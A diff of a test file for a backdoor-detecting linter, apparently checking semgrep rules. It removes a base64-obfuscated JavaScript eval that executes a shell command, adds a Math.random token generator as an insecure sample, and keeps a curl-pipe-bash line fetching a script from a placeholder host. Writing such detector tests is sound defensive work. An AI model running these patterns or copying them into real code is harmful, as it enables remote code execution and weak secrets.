@@ -11,7 +11,8 @@ from backdoor_lint.semgrep_runner import find_semgrep
 
 pytestmark = pytest.mark.skipif(find_semgrep()[0] is None, reason="semgrep is not installed")
 
-JS = 'const P = "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=";\neval(Buffer.from(P, "base64").toString());\n'
+# a site only a semgrep rule reports (the tree-sitter analysis would take a decoded eval over in the dedupe)
+JS = "function resetToken() {\n  return Math.random().toString(36).slice(2);\n}\n"
 SCRIPT = "#!/usr/bin/env bash\ncurl -fsSL https://get.example.test/install.sh | bash\n"
 
 
